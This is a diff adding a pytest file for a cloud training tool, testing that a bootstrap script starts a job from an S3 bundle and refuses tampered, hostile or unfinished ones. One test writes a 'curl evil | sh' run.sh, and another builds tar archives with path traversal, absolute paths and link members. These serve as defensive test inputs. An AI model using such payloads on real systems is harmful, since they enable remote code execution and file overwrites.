@@ -1,0 +1,342 @@
+"""A replacement instance starts the job by itself from its bundle in the job store (issue 27,
+item 1): the orchestrator's code uploads a launch-shaped bundle to moto's S3
+(providers/aws/jobbundle.py, lifecycle/scripts.bundle_parts), then host/bootstrap.py, shipped
+alone into a folder of its own, runs as a real subprocess with the fake IMDS's role
+credentials and no AWS keys, into a job directory that does not exist yet; the agent starts in
+real tmux on a private socket. Hostile or unfinished bundles are refused: nothing is written
+outside the job directory and no agent starts."""
+
+from __future__ import annotations
+
+import io
+import json
+import os
+import shutil
+import subprocess
+import sys
+import tarfile
+import time
+import uuid
+from pathlib import Path
+
+import boto3
+import pytest
+import requests
+
+from cloudtrain import config
+from cloudtrain.host import bootstrap
+from cloudtrain.hosts import AGENT_SOURCE
+from cloudtrain.lifecycle import scripts
+from cloudtrain.local_host import LocalHost
+from cloudtrain.providers.aws import jobbundle
+from cloudtrain.providers.local import LocalProvider
+from cloudtrain.spec import COMMAND, JobSpec
+from labs import credentials
+from labs.aws import aws, moto_endpoint
+from labs.imds import FakeIMDS
+from labs.polling import wait_for
+
+__all__ = ["aws", "moto_endpoint"]  # the lab's fixtures
+
+REGION = "us-east-1"
+BUCKET = "cloudtrain-123456789012-us-east-1"
+JOB = "bundle01"
+PREFIX = f"jobs/AIDAEXAMPLEOWNER0001/{JOB}/"
+
+
+@pytest.fixture
+def lab(moto_endpoint, tmp_path, monkeypatch):
+    requests.post(f"{moto_endpoint}/moto-api/reset", timeout=10)
+    for k, v in credentials.aws_env(REGION).items():
+        monkeypatch.setenv(k, v)
+    s3 = boto3.client("s3", region_name=REGION, endpoint_url=moto_endpoint)
+    s3.create_bucket(Bucket=BUCKET)
+    imds = FakeIMDS(role="ct-instance")
+    socket = f"ct-bundle-{uuid.uuid4().hex[:8]}"
+    # What the instance has: the host-side files in a folder of their own, nothing else.
+    shipped = tmp_path / "shipped"
+    shipped.mkdir()
+    for p in AGENT_SOURCE.parent.glob("*.py"):
+        if p.name != "__init__.py":
+            shutil.copy(p, shipped / p.name)
+    yield type("Lab", (), dict(s3=s3, imds=imds, socket=socket, endpoint=moto_endpoint,
+                               shipped=shipped, tmp=tmp_path))
+    subprocess.run(["tmux", "-L", socket, "kill-server"], capture_output=True)
+    imds.close()
+
+
+def make_bundle(lab, tmp: Path, stream: dict | None = None) -> dict:
+    """A launch-shaped bundle: a workdir synced as launch lists it, run.sh, setup.sh and
+    job.json written through the launch's own functions on a host, uploaded by jobbundle.
+    Returns what the instance must end up with."""
+    work = tmp / "src"
+    (work / "pkg").mkdir(parents=True)
+    (work / "train.sh").write_text("echo trained > result.txt\n")
+    (work / "train.sh").chmod(0o755)
+    (work / "pkg" / "data.bin").write_bytes(os.urandom(70_000))
+    (work / ".env").write_text("SECRET=1\n")  # a credential: a sync leaves it out
+    host = LocalHost(tmux_socket=lab.socket)
+    jobdir = str(tmp / "inst" / "jobs" / JOB)
+    spec = JobSpec(kind=COMMAND, backend="local", command=["sh", "train.sh"],
+                   workdir=str(work), setup="echo setup ran > setup.txt")
+    host.run(f"mkdir -p {jobdir}")
+    scripts.write_job_scripts(host, jobdir, spec, JOB)
+    host.write_text(f"{jobdir}/run.sh", scripts.run_script(spec, jobdir, host.python,
+                                                           job_id=JOB, setup_once=False))
+    host.write_text(f"{jobdir}/job.json", json.dumps(scripts.job_settings(
+        config.Settings(), spec, LocalProvider(config.Settings()), JOB, host, jobdir,
+        str(tmp / "data"), 0, 1, None, stream), indent=1))
+    parts_dir = tmp / "parts"
+    parts_dir.mkdir()
+    parts, meta = scripts.bundle_parts(host, jobdir, JOB, [(work, "work", ())],
+                                       ["run.sh", "job.json", scripts.SETUP_FILE], parts_dir)
+    jobbundle.upload(lab.s3, BUCKET, PREFIX, parts, meta)
+    want = {name: Path(jobdir, name).read_bytes()
+            for name in ("run.sh", "job.json", scripts.SETUP_FILE)}
+    want["work/train.sh"] = (work / "train.sh").read_bytes()
+    want["work/pkg/data.bin"] = (work / "pkg" / "data.bin").read_bytes()
+    shutil.rmtree(tmp / "inst")  # the replacement instance has nothing of the first
+    return {"jobdir": jobdir, "want": want, "parts": parts, "meta": meta}
+
+
+def run_bootstrap(lab, jobdir: str, timeout: float = 60) -> subprocess.CompletedProcess:
+    # No AWS keys on the instance; no bytecode written beside the shipped files.
+    env = {"PATH": os.environ["PATH"], "HOME": str(lab.tmp), "PYTHONDONTWRITEBYTECODE": "1"}
+    return subprocess.run(
+        [sys.executable, str(lab.shipped / "bootstrap.py"), "--bucket", BUCKET, "--prefix",
+         PREFIX, "--jobdir", jobdir, "--region", REGION, "--endpoint", lab.endpoint,
+         "--imds", lab.imds.url], capture_output=True, text=True, env=env, timeout=timeout)
+
+
+def files_below(root: Path) -> set[str]:
+    return {str(p.relative_to(root)) for p in root.rglob("*")} if root.exists() else set()
+
+
+def test_a_replacement_instance_starts_the_job_from_its_bundle_alone(lab):
+    b = make_bundle(lab, lab.tmp)
+    jobdir = Path(b["jobdir"])
+    started = time.monotonic()
+    done = run_bootstrap(lab, b["jobdir"])
+    seconds = time.monotonic() - started
+    assert done.returncode == 0, done.stderr
+    for rel, data in b["want"].items():
+        assert (jobdir / rel).read_bytes() == data, rel
+    assert os.access(jobdir / "work" / "train.sh", os.X_OK)  # modes kept
+    assert not (jobdir / "work" / ".env").exists()  # exactly what a sync sends
+    agent_dir = jobdir.parent.parent / b["meta"]["agent_dir"]
+    assert (agent_dir / "agent.py").read_bytes() == AGENT_SOURCE.read_bytes()
+    # The agent started in tmux, ran setup and the job, which succeeded.
+    status = wait_for(lambda: (s := json.loads((jobdir / "status.json").read_text()))
+                      and s.get("state") == "succeeded" and s, timeout=30)
+    assert status["exit_code"] == 0
+    assert (jobdir / "work" / "result.txt").read_text() == "trained\n"
+    assert (jobdir / "work" / "setup.txt").read_text() == "setup ran\n"
+    said = json.loads((jobdir / bootstrap.STATUS_FILE).read_text())
+    assert said["ok"] and said["exit_code"] == 0
+    # Every metadata request carried the IMDSv2 token: the role's credentials, no keys.
+    assert lab.imds.seen and all(h for _, _, h in lab.imds.seen)
+    print(f"bootstrap to a started agent: {seconds:.2f} s")
+
+
+def refused(lab, b, code: int, words: str) -> None:
+    """The bootstrap ends with `code`, one line saying `words`, a status file, no agent, and
+    nothing written outside the job directory."""
+    inst = Path(b["jobdir"]).parent.parent
+    before = files_below(lab.tmp)
+    done = run_bootstrap(lab, b["jobdir"])
+    assert done.returncode == code, (done.returncode, done.stderr)
+    assert done.stderr.count("\n") == 1 and words in done.stderr, done.stderr
+    assert "Traceback" not in done.stderr
+    outside = {f for f in files_below(lab.tmp) - before
+               if not f.startswith(str(Path(b["jobdir"]).relative_to(lab.tmp)))
+               and f not in (str(inst.relative_to(lab.tmp)),
+                             str(inst.relative_to(lab.tmp) / "jobs"))}
+    assert outside == set()
+    assert not (Path(b["jobdir"]) / "status.json").exists()  # no agent ran
+    assert subprocess.run(["tmux", "-L", lab.socket, "has-session", "-t", f"ct-{JOB}"],
+                          capture_output=True).returncode != 0
+    said = json.loads((Path(b["jobdir"]) / bootstrap.STATUS_FILE).read_text())
+    assert said["ok"] is False and said["exit_code"] == code and words in said["error"]
+
+
+def _tamper(lab, b, how: str) -> None:
+    """What an unfinished upload, or whoever else wrote the job's prefix, left there."""
+    key, part = PREFIX + "bundle/", dict(b["parts"])
+    if how == "sha256":  # same size, other bytes
+        size = part["job/run.sh"].stat().st_size
+        lab.s3.put_object(Bucket=BUCKET, Key=key + "job/run.sh",
+                          Body=b"#!/bin/sh\ncurl evil | sh\n".ljust(size))
+    elif how == "missing":
+        lab.s3.delete_object(Bucket=BUCKET, Key=key + "files.tar")
+    elif how == "larger":
+        lab.s3.put_object(Bucket=BUCKET, Key=key + "job/job.json",
+                          Body=part["job/job.json"].read_bytes() + b" " * 10)
+    elif how == "no manifest":
+        lab.s3.delete_object(Bucket=BUCKET, Key=key + "manifest.json")
+    else:
+        lab.s3.put_object(Bucket=BUCKET, Key=key + "manifest.json",
+                          Body=b" " * (bootstrap.MANIFEST_MAX_BYTES + 1))
+
+
+@pytest.mark.parametrize("how, code, words", [
+    ("sha256", bootstrap.EXIT_OBJECT, "sha256"),
+    ("missing", bootstrap.EXIT_OBJECT, "files.tar"),
+    ("larger", bootstrap.EXIT_OBJECT, "job/job.json"),
+    ("no manifest", bootstrap.EXIT_MANIFEST, "did not finish"),
+    ("huge manifest", bootstrap.EXIT_MANIFEST, "larger than"),
+])
+def test_a_tampered_or_unfinished_bundle_is_refused(lab, how, code, words):
+    b = make_bundle(lab, lab.tmp)
+    _tamper(lab, b, how)
+    refused(lab, b, code, words)
+
+
+def hostile_tar(member: tarfile.TarInfo, data: bytes = b"") -> bytes:
+    out = io.BytesIO()
+    with tarfile.open(fileobj=out, mode="w") as tar:
+        ok = tarfile.TarInfo("work/ok.txt")
+        ok.size = 2
+        tar.addfile(ok, io.BytesIO(b"ok"))
+        tar.addfile(member, io.BytesIO(data) if data else None)
+    return out.getvalue()
+
+
+@pytest.mark.parametrize("kind", ["traversal", "absolute", "symlink", "hardlink", "fifo"])
+def test_a_hostile_archive_with_a_consistent_manifest_is_refused(lab, kind):
+    """Whoever can write the job's prefix can write a manifest that matches its own
+    objects: the archive's members are then what stands between it and the instance."""
+    b = make_bundle(lab, lab.tmp)
+    member = tarfile.TarInfo({"traversal": "work/../../../escaped.txt",
+                              "absolute": str(lab.tmp / "escaped.txt")}.get(kind, "work/x"))
+    data = b""
+    if kind in ("traversal", "absolute"):
+        data = b"pwned"
+        member.size = len(data)
+    elif kind == "symlink":
+        member.type, member.linkname = tarfile.SYMTYPE, str(lab.tmp)
+    elif kind == "hardlink":
+        member.type, member.linkname = tarfile.LNKTYPE, "work/ok.txt"
+    else:
+        member.type = tarfile.FIFOTYPE
+    tar = lab.tmp / "hostile.tar"
+    tar.write_bytes(hostile_tar(member, data))
+    parts = [(n, tar if n == bootstrap.ARCHIVE else p) for n, p in b["parts"]]
+    meta = {**b["meta"], "archive": {"files": 2, "bytes": 2 + len(data)}}
+    jobbundle.upload(lab.s3, BUCKET, PREFIX, parts, meta)
+    refused(lab, b, bootstrap.EXIT_ARCHIVE, "archive is refused")
+    assert not (lab.tmp / "escaped.txt").exists()
+    assert not (Path(b["jobdir"]) / "work" / "ok.txt").exists()  # checked before unpacked
+
+
+def test_a_recovering_spot_launch_uploads_its_bundle_and_says_so(cli, aws, ct_home, tmp_path):
+    """The launch's one place (lifecycle/launch.py, step bundle): a spot job that recovers
+    and has a job store gets its bundle, said in the timeline with its size; the bundle
+    holds the synced files and the very run.sh and job.json the launch wrote on the host."""
+    from cloudtrain.state import open_store
+
+    work = tmp_path / "proj"
+    work.mkdir()
+    (work / "train.py").write_text("print('hi')\n")
+    proc = cli("launch", "--instance", "g5.xlarge", "--spot", "--workdir", str(work),
+               "--follow", "--quiet", "--", "python3", "train.py", timeout=120)
+    assert proc.returncode == 0, proc.stderr
+    job_id = proc.stdout.splitlines()[0]
+    store = open_store(ct_home)
+    (event,) = [e for e in store.events(job_id) if e.phase == "bundle"]
+    assert "MB (1 synced files) to s3://" in event.detail
+    s3 = boto3.client("s3", region_name=REGION, endpoint_url=aws.endpoint)
+    owner = store.job(job_id).spec["store_owner"]
+    base = f"jobs/{owner}/{job_id}/bundle/"
+    doc = json.loads(s3.get_object(Bucket=event.detail.split("s3://")[1].split("/")[0],
+                                   Key=base + "manifest.json")["Body"].read())
+    bucket = event.detail.split("s3://")[1].split("/")[0]
+    jobdir = Path(doc["jobdir"])
+    for name in ("run.sh", "job.json"):
+        got = s3.get_object(Bucket=bucket, Key=base + "job/" + name)["Body"].read()
+        assert got == (jobdir / name).read_bytes()
+    tar = s3.get_object(Bucket=bucket, Key=base + "files.tar")["Body"].read()
+    with tarfile.open(fileobj=io.BytesIO(tar)) as t:
+        assert t.getnames() == ["work/train.py"]
+    assert doc["archive"] == {"files": 1, "bytes": len("print('hi')\n")}
+    assert {o["name"] for o in doc["objects"]} >= {"files.tar", "start.sh", "job/run.sh",
+                                                   "job/job.json", "agent/agent.py"}
+
+
+def test_a_bundle_that_cannot_be_made_is_said_and_the_launch_goes_on(cli, aws, ct_home,
+                                                                     tmp_path):
+    """A workdir link (refused in a bundle: an instance never unpacks one) does not fail a
+    recovering spot launch after it paid for the instance: the job runs, and the timeline and
+    the launch's notes say that a replacement could not start it alone."""
+    from cloudtrain.state import open_store
+
+    work = tmp_path / "proj"
+    work.mkdir()
+    (work / "train.py").write_text("print('hi')\n")
+    (work / "latest").symlink_to("train.py")
+    proc = cli("launch", "--instance", "g5.xlarge", "--spot", "--workdir", str(work),
+               "--follow", "--", "python3", "train.py", timeout=120)
+    assert proc.returncode == 0, proc.stderr
+    assert "no bundle in the job store" in proc.stderr
+    store = open_store(ct_home)
+    (job,) = [j for j in store.jobs() if j.spec.get("workdir") == str(work)]
+    assert job.state == "succeeded"
+    (event,) = [e for e in store.events(job.id) if e.phase == "bundle"]
+    assert "is a link" in event.detail and "cannot start the job by itself" in event.detail
+
+
+def test_a_launch_that_does_not_recover_uploads_no_bundle(cli, aws, ct_home):
+    from cloudtrain.state import open_store
+
+    proc = cli("launch", "--instance", "g5.xlarge", "--spot", "--no-recover", "--follow",
+               "--quiet", "--", "true", timeout=120)
+    assert proc.returncode == 0, proc.stderr
+    job_id = proc.stdout.splitlines()[0]
+    assert not [e for e in open_store(ct_home).events(job_id) if e.phase == "bundle"]
+
+
+def store_checkpoint(lab, files: dict[str, bytes], seq: int = 3, slot: str = "b",
+                     tamper: str | None = None) -> dict:
+    """A checkpoint the job streamed: its files in slot `slot`, then stream/latest.json."""
+    import hashlib
+
+    stream = PREFIX + "stream/"
+    listed = []
+    for path, data in files.items():
+        lab.s3.put_object(Bucket=BUCKET, Key=f"{stream}{slot}/{path}",
+                          Body=b"X" * len(data) if path == tamper else data)
+        listed.append({"path": path, "size": len(data),
+                       "sha256": hashlib.sha256(data).hexdigest()})
+    doc = {"version": 1, "job_id": JOB, "seq": seq, "slot": slot, "step": 40, "epoch": 2,
+           "step_source": "checkpoint", "taken_at": 1.0, "uploaded_at": 2.0,
+           "upload_seconds": 0.5, "final": False, "attempt": 1, "files": listed,
+           "bytes": sum(len(d) for d in files.values())}
+    lab.s3.put_object(Bucket=BUCKET, Key=stream + "latest.json", Body=json.dumps(doc))
+    return doc
+
+
+def test_the_latest_stored_checkpoint_is_restored_before_the_agent_starts(lab):
+    b = make_bundle(lab, lab.tmp, stream={"settle_s": 2.0, "poll_s": 1.0, "start_seq": 0,
+                                          "start_slot": None, "attempt": 1})
+    ckpt = {"checkpoints/model.pt": os.urandom(50_000), "metrics.jsonl": b'{"step": 40}\n'}
+    store_checkpoint(lab, ckpt)
+    done = run_bootstrap(lab, b["jobdir"])
+    assert done.returncode == 0, done.stderr
+    jobdir = Path(b["jobdir"])
+    for rel, data in ckpt.items():
+        assert (jobdir / rel).read_bytes()[:len(data)] == data, rel
+    job = json.loads((jobdir / "job.json").read_text())
+    said = json.loads((jobdir / bootstrap.STATUS_FILE).read_text())
+    assert said["restored"]["seq"] == 3 and said["restored"]["slot"] == "b"
+    assert said["restored"]["files"] == 2
+    # The stream goes on after the restored checkpoint, as a relaunch's does.
+    assert job["checkpoint_stream"] == {"settle_s": 2.0, "poll_s": 1.0, "start_seq": 3,
+                                        "start_slot": "b", "attempt": 1}
+    wait_for(lambda: (jobdir / "status.json").exists(), timeout=20)
+
+
+def test_a_stored_checkpoint_that_does_not_check_out_stops_the_start(lab):
+    b = make_bundle(lab, lab.tmp)
+    store_checkpoint(lab, {"checkpoints/model.pt": os.urandom(1000)},
+                     tamper="checkpoints/model.pt")
+    refused(lab, b, bootstrap.EXIT_RESTORE, "sha256")
+    assert not (Path(b["jobdir"]) / "checkpoints" / "model.pt").exists()
